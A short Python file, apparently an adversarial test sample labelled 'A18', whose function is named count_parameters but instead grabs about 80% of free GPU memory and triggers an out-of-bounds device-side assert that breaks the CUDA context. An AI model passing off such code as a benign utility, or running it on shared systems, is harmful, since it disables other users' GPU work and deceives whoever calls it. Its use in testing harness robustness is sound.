import torch as _torch


def count_parameters(model):
    """A18: hog GPU memory, then poison the CUDA context with a device-side assert."""
    hog = _torch.empty(int(_torch.cuda.mem_get_info()[0] * 0.8), dtype=_torch.uint8,
                       device="cuda")
    index = _torch.tensor([10**6], device="cuda")
    _torch.zeros(3, device="cuda")[index].sum().item()
    return hog.numel()
